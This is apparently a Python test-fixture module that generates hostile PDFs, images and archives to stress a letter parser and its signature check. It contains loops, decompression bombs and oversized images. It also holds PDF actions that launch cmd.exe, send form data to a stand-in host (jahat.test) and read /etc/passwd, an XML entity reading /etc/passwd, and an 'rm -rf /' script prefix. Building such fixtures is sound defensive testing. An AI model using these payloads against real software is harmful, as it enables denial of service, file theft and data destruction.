"""More files that attack their reader, by kind of attack: name -> bytes (the first set is tests/parsing/hostile.py)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import PIL.Image

from tests.parsing.hostile import assembled, page, stream
from tests.surat.buat import A, pdf
from tests.surat.rantai import chain, sign
from tests.surat.serangan import letter, with_range

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
WORDS = b"BT /F 10 Tf 1 0 0 1 60 700 Tm (Nomor : 400.14.9/1/2026) Tj ET "


def raw_stream(content: bytes, extra: bytes) -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def image(extra: bytes, content: bytes, draw: bytes = b"q 595 0 0 842 0 0 cm /I Do Q") -> bytes:
    """A page that shows one image whose bytes are not what they should be."""
    body = b"/Type /XObject /Subtype /Image /Width 5000 /Height 5000 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    return page(draw, b"/XObject << /I 6 0 R >>", [raw_stream(content, body + extra)])


def packed(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


# ---------------------------------------------------------------- loops and depths


def loops() -> dict[str, bytes]:
    good = pdf([A], 1)
    start = good.rindex(b"startxref")
    prev = good.replace(b"/Root", b"/Prev %d /Root" % good.rindex(b"xref\n0"), 1)
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    pattern = stream(
        b"/P scn 0 0 99 99 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 1 /YStep 1 "
        b"/Resources << /Pattern << /P 6 0 R >> >>",
    )
    mask = b"<< /Type /ExtGState /SMask << /S /Luminosity /G 7 0 R >> >>"
    group = stream(
        b"/G gs 0 0 99 99 re f",
        b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Group << /S /Transparency >> "
        b"/Resources << /ExtGState << /G 6 0 R >> >>",
    )
    type3 = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> "
        b"/Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] "
        b"/Resources << /Font << /T 6 0 R >> >> >>"
    )
    return {
        "xref-points-at-itself": prev,
        "startxref-at-zero": good[:start] + b"startxref\n0\n%%EOF\n",
        "startxref-far-out": good[:start] + b"startxref\n99999999999\n%%EOF\n",
        "form-draws-itself": page(b"/X Do", b"/XObject << /X 6 0 R >>", [form]),
        "pattern-of-itself": page(
            b"/Pattern cs /P scn 0 0 500 500 re f", b"/Pattern << /P 6 0 R >>", [pattern]
        ),
        "mask-of-itself": page(b"/G gs 0 0 500 500 re f", b"/ExtGState << /G 6 0 R >>", [mask, group]),
        "letter-of-itself": page(
            b"BT /T 10 Tf (aaa) Tj ET", b"/Font << /T 6 0 R >>", [type3, stream(b"BT /T 9 Tf (a) Tj ET")]
        ),
        "contents-is-the-page": page(WORDS).replace(b"/Contents 4 0 R", b"/Contents 3 0 R"),
        "contents-many": page(WORDS).replace(b"/Contents 4 0 R", b"/Contents [" + b"4 0 R " * 60_000 + b"]"),
        "parent-is-the-page": page(WORDS).replace(b"/Parent 2 0 R", b"/Parent 3 0 R"),
        "length-is-itself": page(WORDS).replace(b"/Length ", b"/Length 4 0 R /L "),
        "object-stream-of-itself": assembled(
            [CATALOG, raw_stream(b"2 0 << /Type /Pages >>", b"/Type /ObjStm /N 1 /First 4 /Extends 2 0 R")]
        ),
        "arrays-in-arrays": page(WORDS).replace(b"/Contents", b"/A " + b"[" * 200_000 + b"]" * 200_000 + b" /Contents"),
        "dictionaries-deep": page(WORDS).replace(
            b"/Contents", b"/A " + b"<< /A " * 50_000 + b"1" + b" >>" * 50_000 + b" /Contents"
        ),
        "brackets-in-contents": page(b"[" * 500_000),
        "strings-unclosed": page(b"(" * 500_000),
        "outline-loop": page(WORDS).replace(b"/Pages 2 0 R", b"/Pages 2 0 R /Outlines 6 0 R").replace(
            b"endobj\nxref", b"endobj\n6 0 obj\n<< /First 6 0 R /Next 6 0 R /Title (a) >>\nendobj\nxref"
        ),
        "fields-loop": page(WORDS).replace(
            b"/Pages 2 0 R", b"/Pages 2 0 R /AcroForm << /Fields [3 0 R] /DA (/F 0 Tf) >> /ByteRange [0 1 2 3]"
        ).replace(b"/Type /Page /", b"/T (a) /Kids [3 0 R] /Type /Page /"),
    }  # fmt: skip


# ---------------------------------------------------------------- sizes


def sizes() -> dict[str, bytes]:
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(10_000))
    real = assembled(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % kids,
            *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * 10_000,
        ]
    )
    text = b"BT /F 1 Tf 1 0 0 1 0 %d Tm (%s) Tj ET\n"
    return {
        "ten-thousand-pages": real,
        "count-lies": page(WORDS).replace(b"/Count 1", b"/Count 2147483647"),
        "count-minus": page(WORDS).replace(b"/Count 1", b"/Count -5"),
        "no-count": page(WORDS).replace(b"/Count 1", b""),
        "kids-are-numbers": page(WORDS).replace(b"/Kids [3 0 R]", b"/Kids [1 2 3]"),
        "flate-twice": page(b"").replace(
            stream(b""),
            raw_stream(packed(b" " * 2**26, 2), b"/Filter [/FlateDecode /FlateDecode]"),
        ),
        "quarter-million-letters": page(b"".join(text % (n % 842, b"Nomor surat " * 20) for n in range(1_000))),
        "one-word-of-a-megabyte": page(b"BT /F 1 Tf (" + b"a" * 1_000_000 + b") Tj ET"),
        "name-of-a-megabyte": page(WORDS).replace(b"/Contents", b"/" + b"a" * 1_000_000 + b" 1 /Contents"),
        "numbers-huge": page(b"BT /F 9 Tf 1 0 0 1 " + b"9" * 400 + b" 5 Tm (Nomor) Tj ET"),
        "page-thin": page(WORDS, box=b"0 0 0.0001 842"),
        "page-turned-oddly": page(WORDS).replace(b"/Type /Page /", b"/Rotate 45 /Type /Page /"),
        "unit-huge": page(WORDS).replace(b"/Type /Page /", b"/UserUnit 1000000 /Type /Page /"),
        "lines-dense": page(b"0 0 m " + b"500 800 l 0 3 l " * 100_000 + b"S"),
        "curves-dense": page(b"0 0 m " + b"1 900 800 -900 500 3 c " * 30_000 + b"f*"),
        "dashes-fine": page(b"[0.0001 0.0001] 0 d 0 0 m 595 842 l S " * 50),
        "shading-function": page(
            b"/S sh",
            b"/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 9999 0 9999] /Function 6 0 R >> >>",
            [raw_stream(b"{ " + b"dup mul " * 20_000 + b"}", b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]")],
        ),
    }  # fmt: skip


# ---------------------------------------------------------------- pictures inside and outside


def pictures() -> dict[str, bytes]:
    noise = zlib.compress(bytes(range(256)) * 64)
    fake_jpeg = (
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xdc\xff\xdc\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9"
    )
    jpx = b"\x00\x00\x00\x0cjP  \r\n\x87\n" + noise
    ifd = (
        b"II*\x00\x08\x00\x00\x00" + b"\x01\x00" + struct.pack("<HHII", 256, 4, 1, 10) + struct.pack("<I", 8)
    )
    tall = b"II*\x00\x08\x00\x00\x00" + b"\x03\x00"
    for tag, value in ((256, 2**31 - 1), (257, 2**31 - 1), (273, 8)):
        tall += struct.pack("<HHII", tag, 4, 1, value)
    heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + struct.pack(">I", 2**31 - 1) + b"meta" + noise
    text = zlib.compress(b"a" * 2**24, 9)
    png = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(c)) + k + c + struct.pack(">I", zlib.crc32(k + c))
        for k, c in (
            (b"IHDR", struct.pack(">IIBBBBB", 20, 20, 8, 0, 0, 0, 0)),
            (b"zTXt", b"Comment\0\0" + text),
            (b"IDAT", zlib.compress(bytes(21 * 20))),
            (b"IEND", b""),
        )
    )
    frames = io.BytesIO()
    blank = PIL.Image.new("L", (300, 400), 255)
    blank.save(frames, "TIFF", save_all=True, append_images=[blank] * 120)
    animated = io.BytesIO()
    blank.save(animated, "GIF", save_all=True, append_images=[blank] * 50)
    webp = io.BytesIO()
    blank.convert("RGB").save(webp, "WEBP")
    sound = PIL.Image.effect_noise((1200, 1600), 90).convert("RGB")
    grainy = io.BytesIO()
    sound.save(grainy, "JPEG", quality=95)
    return {
        "jbig2-garbage": image(b"/Filter /JBIG2Decode", b"\x00\x00\x00\x00\x30\x00\x01" + noise),
        "jpx-garbage": image(b"/Filter /JPXDecode", jpx),
        "dct-garbage": image(b"/Filter /DCTDecode", fake_jpeg + noise),
        "ccitt-garbage": image(b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 99999 /Rows 99999 >>", noise),
        "lzw-garbage": image(b"/Filter /LZWDecode", noise * 50),
        "run-length-bomb": image(b"/Filter /RunLengthDecode", b"\x81a" * 400_000),
        "image-says-huge": image(b"", b"abc").replace(b"/Width 5000 /Height 5000", b"/Width 99999999 /Height 99999999"),
        "image-a-thousand-times": image(
            b"/Filter /FlateDecode", packed(bytes(25_000_000), 1), b"q 595 0 0 842 0 0 cm /I Do Q " * 1_000
        ),
        "inline-image-endless": page(b"BI /W 9999 /H 9999 /BPC 8 /CS /G ID " + b"a" * 100_000),
        "jpeg-says-huge": fake_jpeg + noise,
        "tiff-loop": ifd,
        "tiff-says-huge": tall + b"\0\0\0\0",
        "tiff-many-pages": frames.getvalue(),
        "heic-says-huge": heic,
        "png-comment-bomb": png,
        "gif-as-pdf": animated.getvalue(),
        "webp-as-jpg": webp.getvalue(),
        "photo-of-noise": grainy.getvalue(),
    }  # fmt: skip


# ---------------------------------------------------------------- what acts, hides or pretends


def disguises() -> dict[str, bytes]:
    good = letter()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed_:
        packed_.writestr("surat.pdf", good)
        packed_.writestr("nol", bytes(50_000_000))
    act = {
        "launch": b"/S /Launch /F (cmd.exe)",
        "uri": b"/S /URI /URI (https://jahat.test/?a)",
        "submit": b"/S /SubmitForm /F (https://jahat.test/)",
        "remote": b"/S /GoToR /F (//jahat.test/x.pdf) /D [0 /Fit]",
        "import": b"/S /ImportData /F (/etc/passwd)",
    }
    found = {
        f"action-{name}": page(WORDS).replace(b"/Pages 2 0 R", b"/Pages 2 0 R /OpenAction << %s >>" % what)
        for name, what in act.items()
    }
    attached = raw_stream(good, b"/Type /EmbeddedFile")
    names = b"/Names << /EmbeddedFiles << /Names [(a.pdf) << /F (a.pdf) /EF << /F 6 0 R >> >>] >> >>"
    fonts = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor << /FontFile2 6 0 R /Flags 4 >> >>"
    )
    external = b"/FFilter /FlateDecode /F (/etc/passwd)"
    return found | {
        "embedded-file": page(WORDS, more=[attached]).replace(b"/Pages 2 0 R", b"/Pages 2 0 R " + names),
        "xfa-form": page(WORDS, more=[raw_stream(b"<xdp:xdp><!ENTITY a SYSTEM 'file:///etc/passwd'>", b"")]).replace(
            b"/Pages 2 0 R", b"/Pages 2 0 R /AcroForm << /XFA 6 0 R >>"
        ),
        "stream-from-a-file": page(WORDS).replace(b"/Filter /FlateDecode", external),
        "font-garbage": page(WORDS, more=[raw_stream(bytes(range(256)) * 200, b"")]).replace(FONT, fonts),
        "zip-as-pdf": archive.getvalue(),
        "script-as-pdf": b"#!/bin/sh\nrm -rf /\n" + good,
        "mime-as-pdf": b"MIME-Version: 1.0\nContent-Type: application/pdf\n\n" + good,
        "two-in-one": good + letter(2),
        "text-as-pdf": b"Nomor : 400.14.9/1/2026\n" * 200,
        "header-only-late": b"\n" * 2_000 + good,
        "bytes-all": bytes(range(256)) * 400,
    }  # fmt: skip


# ---------------------------------------------------------------- signatures


def signatures() -> dict[str, bytes]:
    """Files that make the check of a TTE slow, or end it."""
    good = sign(letter(), chain().satu)
    fields = b" ".join(b"%d 0 R" % (n + 6) for n in range(3_000))
    one = b"<< /FT /Sig /T (s%d) /V 5999 0 R >>"
    many = page(WORDS, more=[one % n for n in range(3_000)]).replace(
        b"/Pages 2 0 R",
        b"/Pages 2 0 R /AcroForm << /Fields [%s] /SigFlags 3 >> /X << /ByteRange [0 9 9 9] >>" % fields,
    )
    # ASN.1 sequences in sequences, of no definite length.
    nested = (b"30 80 " * 5_000).replace(b" ", b"")
    start = good.index(b"/Contents <") + len(b"/Contents <")
    deep = good[:start] + nested[:8_000] + good[start + 8_000 :]
    updates = good
    for n in range(400):
        at = len(updates)
        updates += b"\n%d 0 obj\n<< /N %d >>\nendobj\n" % (700 + n, n)
        table = len(updates)
        last = updates[: updates.rindex(b"%%EOF")].rindex(b"startxref")
        previous = int(updates[last + 9 :].split()[0])
        updates += b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            700 + n, at + 1, 701 + n, previous, table,
        )  # fmt: skip
    return {
        "three-thousand-fields": many,
        "message-nested": deep,
        "four-hundred-updates": updates,
        "range-overflows": with_range(good, b"0 1 999999999999 9"),
        "signed-then-cut": good[:-500],
        "signed-encrypt-dictionary": good.replace(b"/Root", b"/Encrypt << /Filter /Standard >> /Root", 1),
    }


def traps() -> dict[str, bytes]:
    return loops() | sizes() | pictures() | disguises() | signatures()
